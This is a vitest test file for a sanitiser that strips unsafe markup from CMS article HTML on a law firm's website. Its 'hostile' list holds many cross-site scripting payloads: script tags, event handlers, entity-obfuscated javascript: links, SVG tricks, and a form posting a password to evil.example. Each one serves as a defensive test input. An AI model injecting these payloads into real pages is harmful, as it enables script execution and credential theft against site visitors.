import { describe, expect, it } from 'vitest';
import { isAllowedImageUrl } from '../../../src/lib/articles/images.ts';
import { sanitiseArticleHtml, type SanitiseOptions } from '../../../src/lib/articles/sanitise.ts';

const options: SanitiseOptions = { assetHosts: ['*.graphassets.com'], siteUrl: 'https://www.mnoadvocates.co.ke' };
const clean = (html: string) => sanitiseArticleHtml(html, options);

const ALLOWED: Record<string, string[]> = {
  h2: [],
  h3: [],
  h4: [],
  h5: [],
  h6: [],
  p: [],
  br: [],
  hr: [],
  ul: [],
  ol: ['start', 'reversed'],
  li: [],
  a: ['href', 'title', 'target', 'rel'],
  strong: [],
  em: [],
  b: [],
  i: [],
  u: [],
  s: [],
  sub: [],
  sup: [],
  mark: [],
  blockquote: [],
  figure: [],
  figcaption: [],
  img: ['src', 'alt', 'width', 'height', 'loading', 'decoding'],
  table: ['tabindex'],
  thead: [],
  tbody: [],
  tr: [],
  th: ['colspan', 'rowspan', 'scope'],
  td: ['colspan', 'rowspan'],
  caption: [],
  code: [],
  pre: [],
};
const decode = (value: string) =>
  value
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&#x27;|&#39;/g, "'")
    .replace(/&amp;/g, '&');

/**
 * The invariant every output must satisfy. sanitize-html escapes `<` in text,
 * so every literal `<` in its output opens a real tag.
 */
function expectOnlyAllowlisted(html: string) {
  for (const [, closing, name, rest] of html.matchAll(/<(\/?)([^\s/>]+)([^>]*)>/g)) {
    const tag = name!.toLowerCase();
    expect(Object.keys(ALLOWED), `element <${tag}> in ${html}`).toContain(tag);
    if (closing) continue;
    const attributes = [...rest!.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)];
    for (const [, attribute, raw] of attributes) {
      expect(ALLOWED[tag], `attribute ${attribute} on <${tag}> in ${html}`).toContain(attribute!.toLowerCase());
      const value = decode(raw ?? '');
      if (attribute === 'href') expect(value, html).toMatch(/^(https?:|mailto:|tel:|\/(?!\/)|#|[^:/]*(?:[/?#]|$))/i);
      if (attribute === 'src') expect(isAllowedImageUrl(value, options.assetHosts), `src ${value}`).toBe(true);
    }
  }
  expect(html).not.toMatch(/javascript\s*:|vbscript\s*:|data\s*:/i);
}

const hostile: Array<[name: string, html: string]> = [
  ['script tag', '<p>Before</p><script>alert(1)</script><p>After</p>'],
  ['script with attributes', '<script src="https://evil.example/x.js" defer></script>'],
  ['uppercase script', '<SCRIPT>alert(1)</SCRIPT>'],
  ['nested script trick', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['doubled angle bracket trick', '<<script>script>alert(1)<</script>/script>'],
  ['unclosed script', '<p>ok</p><script>alert(1)'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['allowed img with onerror', '<img src="/images/articles/a.svg" onerror="alert(1)" alt="A">'],
  ['onclick on a link', '<a href="https://example.org" onclick="steal()">x</a>'],
  ['event handler on a disallowed element', '<div onmouseover="alert(1)">hover</div>'],
  ['event handler with odd spacing', '<p/onclick=alert(1)>x</p>'],
  ['javascript link', '<a href="javascript:alert(1)">x</a>'],
  ['mixed-case javascript with entity colon', '<a href="JaVaScRiPt&colon;alert(1)">x</a>'],
  [
    'numeric entity javascript',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  ],
  ['hex entity javascript', '<a href="&#x6A;avascript:alert(1)">x</a>'],
  ['tab inside javascript', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['newline inside javascript', '<a href="java\nscript:alert(1)">x</a>'],
  ['leading space javascript', '<a href="  javascript:alert(1)">x</a>'],
  ['vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data URL link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data URL image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['svg onload', '<svg onload=alert(1)><circle r="4"/></svg>'],
  ['svg with script', '<svg><script>alert(1)</script></svg>'],
  ['svg foreignObject', '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>'],
  ['svg animate href', '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>'],
  ['math with href', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['style attribute', '<p style="background:url(javascript:alert(1))">styled</p>'],
  ['style tag', '<style>body{display:none}</style><p>visible</p>'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['foreign iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['video embed iframe', '<iframe src="https://www.youtube.com/embed/xyz" allowfullscreen></iframe>'],
  ['srcdoc iframe', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  [
    'form and input',
    '<form action="https://evil.example/collect" method="post"><input name="password" type="password"><button formaction="javascript:alert(1)">Go</button></form>',
  ],
  ['textarea and select', '<textarea>t</textarea><select><option>o</option></select>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="https://evil.example/">'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['comment hiding script', '<!-- <script>alert(1)</script> --><p>x</p>'],
  ['conditional comment', '<!--[if IE]><script>alert(1)</script><![endif]-->'],
  ['protocol-relative image', '<img src="//evil.example/x.png">'],
  ['backslash image path', '<img src="/\\evil.example/x.png">'],
  ['foreign image host', '<img src="https://evil.example/tracker.png">'],
  ['asset host lookalike', '<img src="https://graphassets.com.evil.example/x.png">'],
  ['plain http asset', '<img src="http://media.graphassets.com/x">'],
  ['asset host with credentials', '<img src="https://user:pw@media.graphassets.com/x">'],
  ['srcset', '<img src="/images/a.svg" srcset="https://evil.example/x.png 2x">'],
  ['class and id', '<p class="x" id="y" data-x="z">x</p>'],
  ['a with formaction-like attributes', '<a href="/x" ping="https://evil.example/ping" download>x</a>'],
  ['blockquote cite javascript', '<blockquote cite="javascript:alert(1)"><p>q</p></blockquote>'],
  ['entity-encoded tag in text', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>'],
];

describe('sanitising article HTML', () => {
  for (const [name, html] of hostile) {
    it(`leaves only allowlisted markup: ${name}`, () => {
      expectOnlyAllowlisted(clean(html));
    });
  }

  it('drops script content entirely, keeping surrounding text', () => {
    expect(clean('<p>Before</p><script>alert(1)</script><p>After</p>')).toBe('<p>Before</p><p>After</p>');
  });

  it('never emits a script tag for nested tricks', () => {
    for (const html of ['<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>script>alert(1)<</script>/script>']) {
      expect(clean(html)).not.toMatch(/<script/i);
    }
  });

  it('removes event handlers but keeps the element when allowed', () => {
    expect(clean('<img src="/images/articles/a.svg" onerror="alert(1)" alt="A">')).toBe(
      '<img src="/images/articles/a.svg" alt="A" loading="lazy" decoding="async" />',
    );
  });

  it('removes javascript: and data: links but keeps the link text', () => {
    for (const href of [
      'javascript:alert(1)',
      'JaVaScRiPt&colon;alert(1)',
      '&#x6A;avascript:alert(1)',
      'data:text/html,x',
    ]) {
      expect(clean(`<a href="${href}">Read</a>`)).toBe('<a>Read</a>');
    }
  });

  it('drops style attributes and style elements with their content', () => {
    expect(clean('<p style="color:red">styled</p><style>p{}</style>')).toBe('<p>styled</p>');
  });

  it('drops svg, iframes, objects, embeds and forms with their content', () => {
    const out = clean(
      '<svg onload="x"><text>svg text</text></svg><iframe src="https://www.youtube.com/embed/x">frame</iframe>' +
        '<object data="x"></object><embed src="x"><form><input name="q"><button>Send</button></form><p>kept</p>',
    );
    expect(out).toBe('<p>kept</p>');
  });

  it('keeps images from the CMS asset host and same-origin paths, with lazy loading', () => {
    expect(clean('<img src="https://eu-west-2.graphassets.com/abc/def" alt="Chart" width="800" height="450">')).toBe(
      '<img src="https://eu-west-2.graphassets.com/abc/def" alt="Chart" width="800" height="450" loading="lazy" decoding="async" />',
    );
    expect(clean('<img src="/images/articles/x.svg">')).toBe(
      '<img src="/images/articles/x.svg" alt="" loading="lazy" decoding="async" />',
    );
  });

  it('removes images from any other source', () => {
    for (const src of [
      'https://evil.example/x.png',
      '//evil.example/x.png',
      'http://media.graphassets.com/x',
      'x.png',
      'data:image/png;base64,AAAA',
    ]) {
      expect(clean(`<p>a<img src="${src}" alt="x">b</p>`)).toBe('<p>ab</p>');
    }
  });

  it('drops non-numeric image dimensions', () => {
    expect(clean('<img src="/a.svg" width="100%" height="50">')).toBe(
      '<img src="/a.svg" alt="" height="50" loading="lazy" decoding="async" />',
    );
  });

  it('opens external links in a new tab without giving it access to the page', () => {
    expect(clean('<a href="https://new.kenyalaw.org/" target="_self" rel="opener">Kenya Law</a>')).toBe(
      '<a href="https://new.kenyalaw.org/" target="_blank" rel="noopener noreferrer">Kenya Law</a>',
    );
  });

  it('keeps internal, same-origin, mailto and tel links in the same tab', () => {
    expect(clean('<a href="/contact-us" target="_blank">Contact</a>')).toBe('<a href="/contact-us">Contact</a>');
    expect(clean('<a href="https://www.mnoadvocates.co.ke/insights">All</a>')).toBe(
      '<a href="https://www.mnoadvocates.co.ke/insights">All</a>',
    );
    expect(clean('<a href="mailto:info@mnoadvocates.co.ke">Mail</a>')).toBe(
      '<a href="mailto:info@mnoadvocates.co.ke">Mail</a>',
    );
    expect(clean('<a href="tel:+254722514380">Call</a>')).toBe('<a href="tel:+254722514380">Call</a>');
  });

  it('keeps the rich text an editor writes', () => {
    const html =
      '<h2>Heading</h2><h3>Sub</h3><h4>a</h4><h5>b</h5><h6>c</h6><p>Text with <strong>strong</strong>, <em>em</em>, <b>b</b>, <i>i</i>, ' +
      '<u>u</u>, <s>s</s>, H<sub>2</sub>O, x<sup>2</sup> and <mark>mark</mark>.<br />Line</p><hr />' +
      '<ul><li>one</li></ul><ol start="3"><li>three</li></ol><blockquote><p>Quote</p></blockquote>' +
      '<figure><img src="/images/articles/a.svg" alt="A" loading="lazy" decoding="async" /><figcaption>Caption</figcaption></figure>' +
      '<table tabindex="0"><caption>Fees</caption><thead><tr><th scope="col">Item</th></tr></thead><tbody><tr><td colspan="2">KES 4,000</td></tr></tbody></table>' +
      '<pre><code>const x = 1;</code></pre>';
    expect(clean(html)).toBe(html);
  });

  it('makes every table keyboard-focusable, whatever attributes the editor gave it, so a phone user can scroll it', () => {
    expect(clean('<table border="1" onclick="x()" tabindex="-1"><tr><td>a</td></tr></table>')).toBe(
      '<table tabindex="0"><tr><td>a</td></tr></table>',
    );
  });

  it('turns an editor h1 into an h2, since the page owns the h1', () => {
    expect(clean('<h1>Title</h1>')).toBe('<h2>Title</h2>');
  });
});
